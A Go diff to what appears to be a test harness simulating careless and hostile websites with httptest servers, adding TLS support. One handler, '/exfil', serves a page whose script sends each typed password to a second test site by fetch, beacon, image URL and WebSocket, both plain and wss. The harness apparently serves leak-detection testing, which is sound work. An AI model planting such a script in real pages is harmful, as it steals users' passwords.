@@ -27,6 +27,15 @@ type site struct {
 }
 
 func startSite(name string, h func(*site, http.ResponseWriter, *http.Request)) (*site, error) {
+	return newSite(name, h, false), nil
+}
+
+// startTLSSite is startSite on https (httptest's certificate).
+func startTLSSite(name string, h func(*site, http.ResponseWriter, *http.Request)) (*site, error) {
+	return newSite(name, h, true), nil
+}
+
+func newSite(name string, h func(*site, http.ResponseWriter, *http.Request), secure bool) *site {
 	s := &site{name: name}
 	s.srv = httptest.NewUnstartedServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
 		body, _ := io.ReadAll(io.LimitReader(r.Body, 1<<20))
@@ -34,9 +43,13 @@ func startSite(name string, h func(*site, http.ResponseWriter, *http.Request)) (
 		s.record(r, body)
 		h(s, w, r)
 	}))
-	s.srv.Start()
+	if secure {
+		s.srv.StartTLS()
+	} else {
+		s.srv.Start()
+	}
 	s.URL = s.srv.URL
-	return s, nil
+	return s
 }
 
 // record keeps the request as it arrived: request line, headers, body.
@@ -96,6 +109,9 @@ func handlerA(s *site, w http.ResponseWriter, r *http.Request) {
 		// The site answers a sign-in by moving the credentials into the
 		// URL, as careless sites do.
 		_ = r.ParseForm()
+		// And keeps the token as its sign-in cookie, which a session's
+		// named state then holds (sealed).
+		http.SetCookie(w, &http.Cookie{Name: "wire_session", Value: r.PostForm.Get("token"), Path: "/", HttpOnly: true})
 		http.Redirect(w, r, accountURL(r.PostForm.Get("token"), r.PostForm.Get("password"), r.PostForm.Get("card")), http.StatusSeeOther)
 	case "/redirect":
 		// A (magic-link style) redirect carrying the registered values.
@@ -117,6 +133,7 @@ func handlerA(s *site, w http.ResponseWriter, r *http.Request) {
 <pre>%s</pre>
 <script>
 const v = {tok: %q, pw: %q, card: %q};
+try { localStorage.setItem("wire_card", v.card); sessionStorage.setItem("wire_pw", v.pw); } catch (e) {}
 console.log("signed in", v.tok, v.pw, v.card);
 console.error("card declined: " + v.card + " for " + v.pw);
 setTimeout(() => { throw new Error("token rejected: " + v.tok); }, 0);
@@ -126,14 +143,16 @@ setTimeout(() => { throw new Error("token rejected: " + v.tok); }, 0);
 	case "/exfil":
 		// A hostile page on A: whatever is typed into its password field is
 		// sent to site B as an image URL, a fetch body, a beacon and a
-		// frame on a WebSocket opened before anything was typed.
+		// frame on a WebSocket opened before anything was typed; and to B's
+		// https twin as a fetch body and a wss:// frame.
 		page(w, "Exfil", fmt.Sprintf(`<h1>Log in</h1>
 <label>Password <input id="pw" type="password"></label>
 <button id="go" type="button">Continue</button>
 <p id="status">waiting</p>
 <script>
-const B = %q;
+const B = %q, BS = %q;
 const ws = new WebSocket(B.replace(/^http/, "ws") + "/ws");
+const wss = new WebSocket(BS.replace(/^https/, "wss") + "/ws");
 function send() {
   const v = document.getElementById("pw").value;
   if (!v) return;
@@ -141,12 +160,14 @@ function send() {
   fetch(B + "/fetch", {method: "POST", mode: "no-cors", body: v}).catch(() => {});
   try { navigator.sendBeacon(B + "/beacon", btoa(v)); } catch (e) {}
   try { ws.send(v); } catch (e) {}
+  fetch(BS + "/fetch", {method: "POST", mode: "no-cors", body: v}).catch(() => {});
+  try { wss.send(v); } catch (e) {}
   document.getElementById("status").textContent = "sent";
 }
 document.getElementById("pw").addEventListener("input", send);
 document.getElementById("pw").addEventListener("change", send);
 document.getElementById("go").addEventListener("click", send);
-</script>`, siteB.URL))
+</script>`, siteB.URL, siteBS.URL))
 	default:
 		page(w, "Site A", `<p>site A</p>`)
 	}
